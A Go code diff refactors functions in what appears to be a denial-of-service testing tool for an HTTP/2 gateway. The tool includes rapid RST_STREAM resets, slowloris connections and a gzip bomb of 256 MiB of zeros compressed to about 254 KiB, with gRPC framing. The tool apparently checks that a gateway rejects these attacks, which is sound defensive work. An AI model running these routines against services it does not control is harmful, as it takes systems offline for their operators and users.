@@ -87,7 +87,7 @@ func resets(ctx context.Context, address string) error {
 			err = frames.WriteRSTStream(id, http2.ErrCodeCancel)
 		}
 		if err != nil {
-			return nil //nolint:nilerr // It was thrown out: so it should be.
+			return nil // It was thrown out: so it should be.
 		}
 	}
 	return nil
@@ -176,7 +176,7 @@ func slowloris(ctx context.Context, address, begun string) error {
 func bomb(ctx context.Context, c *child, address, contentType, header string) error {
 	client := http2Client()
 	defer client.CloseIdleConnections()
-	body := squeezed(256 << 20)
+	body := squeezed()
 	if strings.HasPrefix(contentType, "application/grpc") {
 		body = append([]byte{1, byte(len(body) >> 24), byte(len(body) >> 16), byte(len(body) >> 8), byte(len(body))}, body...)
 	}
@@ -206,23 +206,16 @@ func bomb(ctx context.Context, c *child, address, contentType, header string) er
 	return nil
 }
 
-// bombs are made once: compressing takes a second.
-var bombs sync.Map
-
-// squeezed is so many zeros.
-func squeezed(size int) []byte {
-	if made, ok := bombs.Load(size); ok {
-		return made.([]byte) //nolint:forcetypeassert // Nothing else is stored.
-	}
+// squeezed is 256 MiB of zeros as 254 KiB. Making it takes a second.
+var squeezed = sync.OnceValue(func() []byte {
 	var out bytes.Buffer
 	w := gzip.NewWriter(&out)
 	zeros := bufio.NewWriterSize(w, 1<<20)
-	_, _ = io.CopyN(zeros, zeroes{}, int64(size)) // To a buffer.
+	_, _ = io.CopyN(zeros, zeroes{}, 256<<20) // To a buffer.
 	_ = zeros.Flush()
 	_ = w.Close()
-	bombs.Store(size, out.Bytes())
 	return out.Bytes()
-}
+})
 
 type zeroes struct{}
 
@@ -234,8 +227,8 @@ func (zeroes) Read(p []byte) (int, error) {
 // ignoreEnd is nil for what fails because the attack is over, or because the
 // gateway throws it out.
 func ignoreEnd(ctx context.Context, err error) error {
-	if _, refused := errors.AsType[*net.OpError](err); ctx.Err() != nil || refused || errors.Is(err, io.EOF) {
-		return nil
+	if _, refused := errors.AsType[*net.OpError](err); ctx.Err() == nil && !refused && !errors.Is(err, io.EOF) {
+		return err
 	}
-	return err
+	return nil
 }
